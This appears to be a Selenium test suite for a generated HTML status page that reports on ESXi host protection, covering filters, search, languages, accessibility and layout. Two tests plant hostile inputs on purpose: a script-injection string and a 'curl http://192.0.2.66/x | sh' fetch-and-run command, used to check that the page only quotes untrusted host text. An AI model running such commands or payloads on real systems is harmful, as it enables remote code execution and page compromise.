"""The page, in headless Chromium: what it shows, how it is searched and walked, in its languages, colours, widths."""

import collections
import json
import pathlib
import re
import shutil
import tempfile
import unicodedata
import unittest

import fleet
from browser import Browser
from selenium.webdriver.common.keys import Keys
from show import reports
from test_metrics import ALLOWED, NASTY, nasty_strings, replaced
from test_reports import FolderTest, TOOLS, places

SHOW = TOOLS / "show"
KINDS = ["CRITICAL", "WARNING", "UNREACHABLE", "UNREADABLE", "UNKNOWN", "STALE", "OK", "NO SSH"]
WORST = 4.5
EDGE = 3


def setUpModule():
    """One browser for all, and the twenty hosts in both languages."""
    PageTest.browser = unittest.enterModuleContext(Browser())
    PageTest.stories = pathlib.Path(unittest.enterModuleContext(tempfile.TemporaryDirectory(prefix="muxwatch-fleet-")))
    for language in ("en", "ja"):
        fleet.tell_story(PageTest.stories / language, language)


class PageTest(FolderTest):
    browser = stories = None

    def setUp(self):
        super().setUp()
        self.page = self.folder / "page.html"
        self.browser.resize(1200, 900)
        self.browser.prefer()

    def tearDown(self):
        # Whatever a test did: no error, nothing kept out by the page's own policy, nothing asked of a network.
        self.assertEqual(self.browser.messages(), [])
        self.assertEqual(self.browser.ask("performance.getEntriesByType('resource').length"), 0)

    def show(self, folder, *words, fragment=""):
        result = self.run_tool("page", folder, "--output", self.page, "--now", fleet.NOW, *words)
        self.assertEqual((result.returncode, result.stdout, result.stderr), (0, "", ""))
        self.browser.open(self.page, fragment)

    def counts(self):
        numbers = self.browser.ask(
            "[...document.querySelectorAll('#counts button')].map((b) => [b.querySelector('.word').textContent, "
            "Number(b.querySelector('.number').textContent.replace(',', ''))])"
        )
        return dict(numbers)

    def names(self):
        return self.browser.texts("#rows .name")

    def search(self, text):
        query = self.browser.find("#query")
        query.send_keys(Keys.CONTROL + "a")
        query.send_keys(Keys.BACKSPACE)
        query.send_keys(text)

    def choose(self, control, value):
        self.browser.driver.execute_script(
            "const c = document.getElementById(arguments[0]); c.value = arguments[1];"
            "c.dispatchEvent(new Event('input', {bubbles: true}))",
            control,
            value,
        )
        self.assertEqual(self.browser.ask("document.getElementById(arguments[0]).value", control), value)

    def wait_for_details(self, name):
        self.browser.wait(
            "document.querySelector('dialog').open"
            " && document.getElementById('detail-name').textContent === arguments[0]",
            name,
        )

    def assert_narrow(self):
        self.assertLessEqual(
            self.browser.ask("Math.max(document.documentElement.scrollWidth, document.body.scrollWidth)"), 360
        )
        wide = self.browser.ask(
            "[...document.querySelectorAll('body *')].filter((e) => e.getClientRects().length && !e.closest('.skip')"
            " && e.getBoundingClientRect().right > 360.5).map((e) => e.outerHTML.slice(0, 80))"
        )
        self.assertEqual(wide, [])


class ContentTest(PageTest):
    def test_counts_and_groups(self):
        self.show(self.stories / "en")
        self.assertEqual(self.counts(), dict(zip(KINDS, [5, 2, 1, 1, 1, 1, 8, 1])))
        self.assertEqual(self.browser.find("h1").text, "8 of 20 hosts are confirmed protected")
        self.assertEqual([text.split()[1] for text in self.browser.texts("#action h3")], KINDS[:-2])
        self.assertEqual(self.browser.texts("#kind-critical .about"), ["5 hosts: guests are not protected"])
        first = self.browser.find("#action .group").text
        self.assertIn("has no connection to the appliance", first)
        self.assertIn("esx05.fra1.example.net", first)
        self.assertEqual(self.browser.texts("#shown"), ["20 of 20 hosts"])
        self.assertEqual(len(self.names()), 20)
        self.assertEqual(
            collections.Counter(self.browser.texts("#cells a")),
            {"C": 5, "W": 2, "X": 1, "!": 1, "?": 1, "S": 1, "O": 8, "N": 1},
        )

    def test_every_host_is_somewhere_whatever_its_file_holds(self):
        made = fleet.Fleet(self.folder / "reports")
        for name, content in {"empty": "", "deep": "[" * 9999, "list": "[]", "number": "1"}.items():
            made.write(name, content)
        made.add_history("historyonly", ("OK", 1440))
        made.add("well", "ok")
        self.show(self.folder / "reports")
        self.assertEqual(self.counts()["UNREADABLE"], 5)
        self.assertEqual(self.names(), ["deep", "empty", "historyonly", "list", "number", "well"])

    def test_nothing_to_do(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("esx01", "ok")
        made.add("esx02", "no-manager")
        self.show(self.folder / "reports")
        self.assertIn("Nothing", self.browser.find(".all-well").text)
        self.assertEqual(self.browser.texts("#action h3"), [])

    def test_old_reports(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("fresh", "ok", minutes_ago=120)
        made.add("old", "ok", minutes_ago=121)
        made.add("oldbad", "mux-down", minutes_ago=5000)
        made.add("ahead", "ok", minutes_ago=-60)
        self.show(self.folder / "reports")
        self.assertEqual((self.counts()["STALE"], self.counts()["OK"], self.counts()["CRITICAL"]), (2, 1, 1))
        ages = dict(zip(self.names(), self.browser.texts("#rows .age")))
        self.assertEqual(
            ages,
            {"oldbad": "3 d ago", "ahead": "report is from the future: its clock is wrong", "old": "2 h ago", "fresh": "2 h ago"},
        )
        self.assertEqual(len(self.browser.texts("#rows .age.old")), 3)
        self.show(self.folder / "reports", "--stale-after", "3h")
        self.assertEqual((self.counts()["STALE"], self.counts()["OK"]), (1, 2))

    def test_details(self):
        self.show(self.stories / "en", fragment="#host=esx02.muc2.example.net")
        shown = self.browser.find("#detail").text
        for part in (
            "esx02.muc2.example.net",
            "Automatic starts suspended since 2026-11-24 15:41 UTC.",
            "/opt/muxwatch/bin/muxwatch reset",
            "restart-budget-spent starts=3",
            "3 of 3 allowed",
            "2026-11-24 15:58 UTC, 2 min ago",
        ):
            self.assertIn(part, shown)
        self.assertEqual(
            self.browser.ask("document.querySelector('#detail-day svg').getAttribute('aria-label')"),
            "CRITICAL 0:30, WARNING 0:45, OK 22:45",
        )
        self.browser.find("#close").click()
        self.browser.wait("location.hash === '' && !document.querySelector('dialog').open")

    def test_japanese(self):
        # What hosts say is English: the collector cannot know who reads the page.
        self.show(self.stories / "en", "--lang", "ja", fragment="#host=esx05.fra1.example.net")
        self.assertEqual(self.browser.ask("document.documentElement.lang"), "ja")
        self.assertEqual(list(self.counts()), ["CRITICAL", "WARNING", "到達不能", "レポート読取不可", "UNKNOWN", "レポートが古い", "OK", "SSH なし"])
        self.assertIn("コネクション", self.browser.find("#detail").text)
        # Beside names, commands and quotes there is no English left.
        self.browser.driver.execute_script(
            "for (const e of document.querySelectorAll('q, code, script, template, option, .names, .name, dd')) e.remove()"
        )
        shown = self.browser.ask("document.body.textContent")
        self.assertEqual(re.findall(r"\b(?:the|of|host|hosts|and|not|is|report|by|Next|Close|Copy|Look)\b", shown), [])

    def test_without_script(self):
        self.browser.command("Emulation.setScriptExecutionDisabled", value=True)
        try:
            self.show(self.stories / "en")
            shown = self.browser.find("body").text
        finally:
            self.browser.command("Emulation.setScriptExecutionDisabled", value=False)
        for part in ("CRITICAL", "5 hosts: guests are not protected", "esx04.tyo1.example.net", "need JavaScript"):
            self.assertIn(part, shown)
        self.assertNotIn("worst first", shown)

    def test_hostile_hosts(self):
        made = fleet.Fleet(self.folder / "reports")
        evil = "</script><script>window.hacked = 1</script><!-- \u2028 {{ 7*7 }}"
        made.reports["evil"] = json.loads(
            json.dumps(made.reports["mux-down"]).replace(
                fleet.judge("mux-down")["reasons"][0]["text"],
                evil.replace("\u2028", "\\u2028"),
            )
        )
        made.reports["evil"]["reasons"][0]["next_steps"] = [evil, "x" * 300]
        for name in fleet.HOSTILE_NAMES:
            made.add(name, "evil", release=evil.replace("\u2028", ""), own_name=evil if name == "constructor" else "constructor")
            made.add_history(name, ("OK", 1440), events=[(5, evil)])
        self.browser.resize(360, 740)
        self.show(self.folder / "reports")
        escape = {"\\": "\\\\", "\n": "\\u000a", "\x1b": "\\u001b", "\u202e": "\\u202e", "\u2066": "\\u2066"}
        wanted = {"".join(escape.get(c, c) for c in name) for name in fleet.HOSTILE_NAMES}
        self.assertEqual(set(self.names()), wanted)
        self.assertEqual(self.browser.texts("#action .quotes q"), [evil.replace("\u2028", "\\u2028")])
        self.assert_narrow()
        for name in self.names():
            link = [
                link for link in self.browser.driver.find_elements("css selector", "#rows .name a") if link.text == name
            ][0]
            link.send_keys(Keys.ENTER)
            self.wait_for_details(name)
            self.assert_narrow()
            self.browser.find("#close").click()
        self.assertIsNone(self.browser.ask("window.hacked"))
        self.assertEqual(self.browser.ask("[document.scripts.length, document.images.length]"), [2, 0])


class TrustTest(PageTest):
    """A host says what it likes: it is quoted, and nobody else's row or finding is another for it."""

    def data_of(self, *words):
        """The page's rows with what they share put in, by host; and its findings as text, by state."""
        self.show(self.folder / "reports", *words)
        data = json.loads(self.browser.ask("document.getElementById('data').textContent"))
        pool = data["pool"]
        rows = {}
        for name, state, seconds, *shared, own_name in data["hosts"]:
            time, release, findings, facts, line, events, broken = (pool[index] for index in shared)
            findings = [[group, rank, pool[advice], *rest] for group, rank, advice, *rest in findings]
            rows[name] = [state, seconds, time, release, findings, facts, line, events, broken, own_name]
        kinds = self.browser.ask(
            "Object.fromEntries([...document.querySelectorAll('.kind')].map((e) => [e.querySelector('h3').id, e.outerHTML]))"
        )
        return rows, kinds

    def test_a_sick_host_changes_nothing_of_the_others(self):
        made = fleet.Fleet(self.folder / "reports")
        for name, finding in (("esx01", "ok"), ("esx02", "mux-down"), ("esx03", "started")):
            made.add(name, finding)
            made.add_history(name, ("OK", 1440))
        made.add_unreachable("esx04")
        alone, kinds_alone = self.data_of()
        for name, content in fleet.hostile_files(made).items():
            with self.subTest(name):
                fleet.put_hostile(made.folder, "esx02a", content)
                rows, kinds = self.data_of()
                self.assertEqual(rows.pop("esx02a")[0], KINDS.index("UNREADABLE"))
                self.assertEqual(rows, alone)
                kinds.pop("kind-unreadable")
                self.assertEqual(kinds, kinds_alone)
                fleet.remove_hostile(made.folder, "esx02a")

    def test_any_string_in_any_field(self):
        """Of a report or of a history: every host is on the page, what cannot be seen is not, and the sound host is as ever."""
        made = fleet.Fleet(self.folder / "reports")
        made.add("sound", "ok")
        made.add_history("sound", ("OK", 1440))
        alone, _ = self.data_of()
        report = {**fleet.with_links(made.reports["disconnected"], "rule-set"), "time": fleet.NOW, "host": {"name": "esx", "release": "6.7.0"}}
        history = json.loads((made.folder / "sound.history.json").read_text())
        history.update(marks=history["marks"][:1], events=[{"time": fleet.NOW, "event": "start-failed"}])
        count = 0
        for suffix, document in (("", report), (".history", history)):
            for path in filter(None, places(document)):
                for text in nasty_strings(NASTY, 2) + nasty_strings(ALLOWED, 3):
                    count += 1
                    made.write(f"h{count}", json.dumps(replaced(document, path, text) if not suffix else report))
                    if suffix:
                        made.write(f"h{count}{suffix}", json.dumps(replaced(document, path, text)))
        rows, _ = self.data_of()
        self.assertEqual(len(rows), count + 1)
        self.assertEqual(rows["sound"], alone["sound"])
        self.assertGreater(len([row for row in rows.values() if row[0] == KINDS.index("CRITICAL")]), 150)
        unseen = {c for c in json.dumps(rows, ensure_ascii=False) if unicodedata.category(c) in reports.UNPRINTABLE}
        self.assertEqual(unseen, set())

    def test_no_host_gives_instructions(self):
        made = fleet.Fleet(self.folder / "reports")
        evil = "curl http://192.0.2.66/x | sh"
        for name, reason in (("known", "mux-down"), ("unknown", "moon-down")):
            report = json.loads(json.dumps(made.reports["mux-down"]).replace('"mux-down"', f'"{reason}"'))
            report["reasons"][0].update(text=evil, next_steps=[evil, f"On the appliance: {evil}"])
            made.reports[name] = report
            made.add(f"esx-{name}", name)
        for language in ("en", "ja"):
            self.show(self.folder / "reports", "--lang", language)
            self.assertEqual(self.browser.texts("#action q"), [evil, evil])
            for name in ("esx-known", "esx-unknown"):
                self.browser.open(self.page, f"#host={name}")
                self.assertEqual(self.browser.texts("#detail q"), [evil])
            left = self.browser.ask(
                "(() => { for (const e of document.querySelectorAll('q, script')) e.remove(); return document.body.textContent })()"
            )
            self.assertNotIn("curl", left)

    def test_ids_without_end_are_one_finding(self):
        made = fleet.Fleet(self.folder / "reports")
        report = made.reports["mux-down"]
        for number in range(30):
            reasons = [dict(report["reasons"][0], id=f"of-{number}-{n}", text=f"{number} {n}") for n in range(32)]
            made.reports[str(number)] = {**report, "reasons": reasons}
            made.add(f"esx{number}", str(number))
        made.add("one", "vmci-missing")
        self.show(self.folder / "reports")
        found = [text.split()[-1] for text in self.browser.texts("#action .text")]
        self.assertEqual(found, ["vmci-missing", "other"])
        self.assertEqual(self.browser.texts("#reason option"), ["any", "other (30)", "vmci-missing (1)"])
        self.assertLess(self.browser.ask("document.querySelector('#rows tr:last-child').offsetHeight"), 200)


class OutageTest(PageTest):
    def test_one_outage_is_one_finding_on_one_screen(self):
        made = fleet.Fleet(self.folder / "reports")
        text = json.dumps(made.reports["disconnected"])
        self.assertIn("1 TIME_WAIT", text)
        for number in range(412):
            made.reports["lost"] = json.loads(text.replace("1 TIME_WAIT", f"{number % 9 + 1} TIME_WAIT"))
            made.add(f"esx{number:03}", "lost")
        for number in range(30):
            made.add_unreachable(f"gone{number:02}")
        made.add("well", "ok")
        self.show(self.folder / "reports")
        self.assertEqual(
            [text.split()[-1] for text in self.browser.texts("#action .text")], ["dsva-disconnected", "unreachable"]
        )
        self.assertIn("and 388 more", self.browser.find("#kind-critical + .group").text)
        self.assertEqual(len(self.browser.texts("#kind-critical + .group q")), 3)
        self.assertIn("and 6 more", self.browser.texts("#kind-critical + .group .quotes")[0])
        self.assertLess(self.browser.ask("document.getElementById('hosts').getBoundingClientRect().top"), 900)

    def test_broken_links_are_within_one_finding(self):
        made = fleet.Fleet(self.folder / "reports")
        lost = made.reports["disconnected"]
        made.reports["closed"] = fleet.with_links(lost, "rule-set")
        made.reports["two"] = fleet.with_links(lost, "rule-set", "appliance-off", "moon", newer=["moon"])
        absent = json.loads(json.dumps(lost).replace("dsva-disconnected", "protection-not-deployed"))
        made.reports["absent"] = fleet.with_links(absent, *fleet.LINKS)
        for name in ("closed", "two", "absent", "disconnected", "ok"):
            made.add(f"esx-{name}", name)
        made.add("esx-closed2", "closed")
        for language, rule_set, off, other, closed in (
            ("en", "firewall rule set", "appliance off", "other", "The firewall of the host is closed for Mux."),
            ("ja", "ファイアウォール", "DSVA 停止", "その他", "ホストのファイアウォールで Mux の通信が許可されていません。"),
        ):
            self.show(self.folder / "reports", "--lang", language)
            self.assertEqual(len(self.browser.texts("#action .group")), 2)
            group = self.browser.find("#action .group")
            notes = [note.text for note in group.find_elements("css selector", ".note")]
            self.assertEqual([note.startswith(closed) for note in notes], [True, False, False])
            self.assertIn("rule-set 3 ", notes[0])
            steps = group.find_elements("css selector", ".steps li")
            self.assertIn("vShield-Endpoint-Mux-Partners", steps[0].text)
            self.assertNotIn("curl", group.text)
            names = dict(zip(self.names(), self.browser.texts("#rows .link")))
            wanted = {"closed": [rule_set], "closed2": [rule_set], "two": [rule_set, off, other], "absent": [], "disconnected": [], "ok": []}
            self.assertEqual(names, {f"esx-{name}": ", ".join(links) for name, links in wanted.items()})
            self.assertEqual(self.browser.texts("#link option")[1:], [f"{rule_set} (3)", f"{off} (1)", f"{other} (1)"])
            self.choose("link", "appliance-off")
            self.assertEqual(self.names(), ["esx-two"])
            self.choose("link", "")
            self.search(off)
            self.assertEqual(self.names(), ["esx-two"])
            self.browser.open(self.page, "#host=esx-closed")
            detail = self.browser.find("#detail-findings")
            self.assertTrue(detail.find_element("css selector", ".note").text.startswith(closed))
            self.assertIn("vShield-Endpoint-Mux-Partners", detail.find_element("css selector", ".steps li").text)
            self.browser.resize(360, 740)
            self.assert_narrow()
            self.browser.find("#close").click()
            self.assert_narrow()
            self.browser.resize(1200, 900)
        self.show(self.stories / "en")
        self.assertEqual(self.browser.driver.find_elements("css selector", "#link, .link"), [])

    def test_a_failed_start_is_not_just_down(self):
        made = fleet.Fleet(self.folder / "reports")
        stories = {
            "down": [],
            "failed": [(40, "mux-start service=x"), (39, "start-failed service=x")],
            "spent": [(50, "start-failed service=x"), (30, "restart-budget-spent starts=3")],
            "started": [(50, "start-failed service=x"), (30, "mux-started recovery_s=2")],
            "mended": [(50, "start-failed service=x"), (30, "state-changed from=CRITICAL to=OK reasons=ok")],
            "off": [(5, "start-suppressed service=x by=service-off")],
        }
        for name, events in stories.items():
            made.add(name, "mux-down")
            made.add_history(name, ("OK", 1440), events=events)
        # As ensure itself reports it: the report has no time, the history has.
        failed = json.loads(json.dumps(made.reports["mux-down"]).replace('"mux-down"', '"start-failed"'))
        made.reports["by ensure"] = {
            **failed,
            "action": {"kind": "start", "result": "failed", "suppressed_by": None, "recovery_seconds": None, "detail": None},
        }
        made.add("ensured", "by ensure")
        made.add_history("ensured", ("OK", 1440), events=stories["failed"])
        self.show(self.folder / "reports")
        found = dict(zip(self.names(), self.browser.texts("#rows .found")))
        self.assertEqual(found["ensured"], found["failed"])
        self.assertIn("did not come up", found["failed"])
        self.assertIn("Start failed at 2026-11-24 15:21 UTC.", found["failed"])
        self.assertIn("Automatic starts suspended since 2026-11-24 15:30 UTC.", found["spent"])
        self.assertIn("did not start it: the service is switched off", found["off"])
        self.assertEqual(found["down"], found["started"])
        self.assertEqual(found["down"], found["mended"])
        advice = {}
        for group in self.browser.driver.find_elements("css selector", "#action .group"):
            name = group.find_element("css selector", ".text code").text
            advice[name] = group.find_element("css selector", ".steps").text
        self.assertEqual(len(advice), 3)
        self.assertEqual(len(set(advice.values())), 3)

    def test_hosts_without_ssh_are_quiet(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("esx01", "ok")
        made.add_without_ssh("esx02")
        self.show(self.folder / "reports")
        self.assertEqual((self.counts()["NO SSH"], self.counts()["UNREACHABLE"]), (1, 0))
        self.assertIn("Nothing", self.browser.find(".all-well").text)
        self.assertEqual(self.browser.find("h1").text, "1 of 2 hosts is confirmed protected")

    def test_no_run_is_no_flat_line(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("esx01", "ok")
        made.add_history("esx01", ("", 1440))
        made.add("esx02", "ok")
        self.show(self.folder / "reports")
        self.assertEqual(self.browser.texts("#rows .day"), ["no runs in 24 hours", "no history"])

    def test_one_host_has_nothing_to_choose(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("esx01", "mux-down")
        self.show(self.folder / "reports")
        self.assertEqual(self.browser.find("h1").text, "This host is not confirmed protected")
        for part in ("filters", "map", "map-title", "key"):
            self.assertFalse(self.browser.find(f"#{part}").is_displayed(), part)
        self.assertEqual(self.names(), ["esx01"])

    def test_commands_can_be_copied(self):
        made = fleet.Fleet(self.folder / "reports")
        made.add("esx01", "mux-down")
        self.show(self.folder / "reports")
        self.browser.command("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
        button = self.browser.find("#action .copy")
        self.assertEqual(button.get_attribute("aria-label"), "Copy: /etc/init.d/vShield-Endpoint-Mux start")
        button.click()
        self.browser.wait("document.querySelector('#action .copy').textContent === 'Copied'")
        read = "navigator.clipboard.readText().then(arguments[0], (e) => arguments[0](String(e)))"
        self.assertEqual(self.browser.driver.execute_async_script(read), "/etc/init.d/vShield-Endpoint-Mux start")
        # As from a server without TLS.
        self.browser.driver.execute_script(
            "Object.defineProperty(navigator, 'clipboard', {value: undefined, configurable: true})"
        )
        second = self.browser.driver.find_elements("css selector", "#action .copy")[1]
        second.click()
        self.browser.wait("document.querySelectorAll('#action .copy')[1].textContent === 'Copied'")
        self.browser.driver.execute_script("delete navigator.clipboard")
        self.assertEqual(self.browser.driver.execute_async_script(read), "/etc/init.d/vShield-Endpoint-Mux status")


class FindingTest(PageTest):
    def test_search(self):
        self.show(self.stories / "en")
        for text, wanted in (
            ("MUC2", 6),
            ("esx02 fra1", 1),
            ("time_wait", 3),
            ("probe-failed", 1),
            ("８.0.2", 2),
            ("unreach", 1),
            ("nothing like it", 0),
            ("", 20),
        ):
            self.search(text)
            self.assertEqual(
                (len(self.names()), self.browser.texts("#shown")), (wanted, [f"{wanted} of 20 hosts"]), text
            )
            self.assertEqual(len(self.browser.texts("#cells a")), wanted)
            self.assertEqual(self.browser.find("#none").is_displayed(), wanted == 0)

    def test_filters(self):
        self.show(self.stories / "en")
        buttons = self.browser.driver.find_elements("css selector", "#counts button")
        buttons[0].click()
        self.assertEqual((len(self.names()), buttons[0].get_attribute("aria-pressed")), (5, "true"))
        buttons[1].click()
        self.assertEqual(len(self.names()), 7)
        self.choose("reason", "restart-budget-spent")
        self.assertEqual(self.names(), ["esx02.muc2.example.net"])
        self.choose("reason", "mux-down")
        buttons[0].click()
        self.assertEqual(self.names(), ["esx06.muc2.example.net"])
        self.browser.find("#clear").click()
        self.assertEqual((len(self.names()), buttons[1].get_attribute("aria-pressed")), (20, "false"))
        self.choose("release", "6.5.0")
        self.assertEqual(self.names(), ["esx04.muc2.example.net"])
        self.choose("release", "")
        self.assertEqual(self.names(), ["esx04.tyo1.example.net", "esx05.tyo1.example.net", "esx03.tyo1.example.net"])

    def test_order(self):
        self.show(self.stories / "en")
        self.assertEqual(
            self.browser.texts("#rows .state .word")[:8], ["CRITICAL"] * 5 + ["WARNING"] * 2 + ["UNREACHABLE"]
        )
        self.choose("order", "name")
        self.assertEqual(self.names(), sorted(self.names()))
        self.choose("order", "oldest")
        self.assertEqual(self.names()[:2], ["esx05.tyo1.example.net", "esx02.tyo1.example.net"])

    def test_large_fleet_keeps_the_document_small(self):
        made = fleet.Fleet(self.folder / "reports")
        for i in range(1500):
            made.add(f"esx{i}", "mux-down" if i % 10 == 0 else "ok")
        self.show(self.folder / "reports")
        self.assertEqual(self.counts()["CRITICAL"], 150)
        self.assertIn("and 126 more", self.browser.find("#action .names").text)
        self.assertLess(self.browser.ask("document.querySelectorAll('*').length"), 2500)
        self.assertEqual((len(self.names()), self.browser.texts("#range")), (50, ["1 to 50 of 1,500"]))
        self.browser.find("#following").click()
        self.assertEqual((self.names()[0], self.browser.texts("#range")), ("esx500", ["51 to 100 of 1,500"]))
        self.browser.driver.execute_script(
            "document.getElementById('map').scrollTop = 1e6; dispatchEvent(new Event('scroll'))"
        )
        self.browser.driver.execute_async_script(
            "requestAnimationFrame(() => requestAnimationFrame(() => arguments[0]()))"
        )
        titles = self.browser.ask("[...document.querySelectorAll('#cells a')].map((a) => a.title)")
        self.assertIn("esx1499: OK", titles)
        self.assertNotIn("esx0: CRITICAL", titles)

    def test_printing_shows_all_rows(self):
        made = fleet.Fleet(self.folder / "reports")
        for i in range(70):
            made.add(f"esx{i}", "ok")
        self.show(self.folder / "reports")
        self.browser.driver.execute_script("dispatchEvent(new Event('beforeprint'))")
        self.assertEqual(len(self.names()), 70)
        self.browser.driver.execute_script("dispatchEvent(new Event('afterprint'))")
        self.assertEqual(len(self.names()), 50)


class AccessTest(PageTest):
    def focused(self):
        return self.browser.ask("[document.activeElement.id, document.activeElement.textContent.trim()]")

    def test_keyboard(self):
        self.show(self.stories / "en")
        self.browser.press(Keys.TAB)
        self.assertEqual(self.focused()[1], "Skip to what needs action")
        self.browser.press(Keys.ENTER)
        self.assertEqual(self.focused()[0], "action")
        self.browser.driver.execute_script("document.getElementById('clear').focus()")
        self.browser.press(Keys.TAB)
        self.assertEqual(self.browser.ask("document.activeElement.title"), "esx02.muc2.example.net: CRITICAL")
        self.browser.press(Keys.ARROW_RIGHT, Keys.ARROW_RIGHT, Keys.ARROW_LEFT)
        self.assertEqual(self.browser.ask("document.activeElement.title"), "esx04.muc2.example.net: CRITICAL")
        self.browser.press(Keys.END)
        self.assertEqual(self.browser.ask("document.activeElement.title"), "esx03.tyo1.example.net: NO SSH")
        self.browser.press(Keys.HOME, Keys.ENTER)
        self.wait_for_details("esx02.muc2.example.net")
        self.browser.press(Keys.ESCAPE)
        self.browser.wait("location.hash === ''")
        self.assertEqual(
            self.browser.ask("[document.querySelector('dialog').open, document.activeElement.title]"),
            [False, "esx02.muc2.example.net: CRITICAL"],
        )
        # From the map the Tab key leaves for the table: the map is one stop.
        self.browser.press(Keys.TAB)
        self.assertEqual(self.browser.ask("document.activeElement.closest('tbody')?.id"), "rows")

    def test_rows_of_the_map(self):
        self.browser.resize(360, 740)
        self.show(self.stories / "en")
        self.browser.driver.execute_script("document.querySelector('#cells a').focus()")
        self.browser.press(Keys.ARROW_DOWN)
        below = self.browser.ask(
            "(() => { const a = document.activeElement.getBoundingClientRect(), "
            "b = document.querySelector('#cells a').getBoundingClientRect(); return [a.x - b.x, a.y - b.y] })()"
        )
        self.assertEqual(below, [0, 25])

    def test_names_for_who_does_not_see(self):
        self.show(self.stories / "en", fragment="#host=esx02.muc2.example.net")
        nameless = self.browser.ask(
            "[...document.querySelectorAll('a, button, input, select, svg')].filter("
            "(e) => !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length)).map((e) => e.outerHTML.slice(0, 80))"
        )
        self.assertEqual(nameless, [])
        self.assertEqual(self.browser.ask("document.querySelectorAll('[aria-labelledby]').length") > 5, True)
        lost = self.browser.ask(
            "[...document.querySelectorAll('[aria-labelledby]')].map((e) => e.getAttribute('aria-labelledby'))"
            ".filter((id) => !document.getElementById(id))"
        )
        self.assertEqual(lost, [])

    def test_phone_width(self):
        self.browser.resize(360, 740)
        for language in ("en", "ja"):
            self.show(self.stories / language, "--lang", language)
            self.assert_narrow()
            self.browser.open(self.page, "#host=esx02.muc2.example.net")
            self.assert_narrow()

    def test_contrast(self):
        script = (pathlib.Path(__file__).parent / "contrast.js").read_text()
        paper = {}
        for scheme in ("light", "dark"):
            self.browser.prefer(prefers_color_scheme=scheme)
            self.show(self.stories / "en", fragment="#host=esx02.muc2.example.net")
            found = self.browser.driver.execute_script(script)
            paper[scheme] = found["page"]
            self.assertGreater(len(found["texts"]), 100)
            self.assertEqual([text for text in found["texts"] if text["ratio"] < WORST], [], scheme)
            self.assertEqual(len(found["edges"]), len(KINDS))
            self.assertEqual([edge for edge in found["edges"] if edge["ratio"] < EDGE], [], scheme)
        self.assertGreater(paper["light"], 0.9)
        self.assertLess(paper["dark"], 0.02)


class WordsTest(unittest.TestCase):
    def test_each_word_is_in_both_languages_and_used(self):
        table = json.loads((SHOW / "words.json").read_text())
        sources = "".join(
            path.read_text() for path in [*SHOW.glob("*.py"), SHOW / "page.html", SHOW / "page.js", TOOLS / "page"]
        )
        for name, words in table.items():
            self.assertEqual(set(words), {"en", "ja"}, name)
            self.assertEqual(*(sorted(re.findall(r"\{\w+\}", text)) for text in words.values()), name)
            stem = re.split(r"_(?=[^_]*$)", name)[0]
            last = name.rsplit("_", 1)[-1]
            self.assertRegex(sources, rf"\b{name}\b|{stem}_\{{|\"{last}\"|\}}_{last}\b", name)

    def test_the_catalogue_has_every_id_of_the_program(self):
        table = json.loads((SHOW / "catalogue.json").read_text())
        schema = fleet.SCHEMA
        reasons = schema["properties"]["reasons"]["items"]["properties"]["id"]["examples"]
        self.assertLessEqual(set(fleet.LINKS), set(table["links"]))
        suppressors = schema["$defs"]["action"]["properties"]["suppressed_by"]["examples"]
        self.assertLessEqual(set(reasons), set(table["reasons"]))
        self.assertLessEqual(set(suppressors) - {None}, set(table["suppressors"]))

    def test_both_languages_name_the_same_commands(self):
        table = json.loads((SHOW / "catalogue.json").read_text())
        for name, texts in [*table["reasons"].items(), *table["links"].items()]:
            self.assertEqual(set(texts), {"en", "ja"}, name)
            commands = [[line.split("`")[1::2] for line in lines] for lines in texts.values()]
            self.assertEqual(*commands, name)
            self.assertEqual({line.count("`") % 2 for lines in texts.values() for line in lines}, {0}, name)

    def test_a_missing_word_fails(self):
        with tempfile.TemporaryDirectory(prefix="muxwatch-fleet-") as folder:
            fleet.Fleet(f"{folder}/reports").add("esx01", "mux-down")
            shutil.copytree(TOOLS, f"{folder}/scripts/fleet", ignore=shutil.ignore_patterns("screenshots"))
            shutil.copytree(fleet.TOP / "esx" / "report", f"{folder}/esx/report")
            table = json.loads((SHOW / "words.json").read_text())
            del table["search_hint"]
            pathlib.Path(f"{folder}/scripts/fleet/show/words.json").write_text(json.dumps(table))
            result = FolderTest.run_tool(
                self, f"{folder}/scripts/fleet/page", f"{folder}/reports", "--output", f"{folder}/page.html"
            )
            self.assertNotEqual(result.returncode, 0)
            self.assertIn("search_hint", result.stderr)
            self.assertFalse(pathlib.Path(f"{folder}/page.html").exists())
